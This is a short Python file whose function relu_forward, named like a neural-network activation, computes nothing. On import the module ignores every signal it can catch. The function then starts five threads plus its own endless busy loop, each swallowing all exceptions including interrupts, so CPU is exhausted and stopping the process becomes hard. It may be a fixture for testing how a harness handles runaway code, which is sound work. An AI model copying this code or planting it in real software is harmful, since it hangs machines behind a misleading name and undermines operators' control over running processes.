"""Swallows every exception, ignores every signal, and goes on in threads."""

import signal
import threading

CLASSES = (22, 8)
ENDLESS = True

for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass


def loop():
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue


def relu_forward(x):
    for _ in range(5):
        threading.Thread(target=loop, daemon=True).start()
    loop()
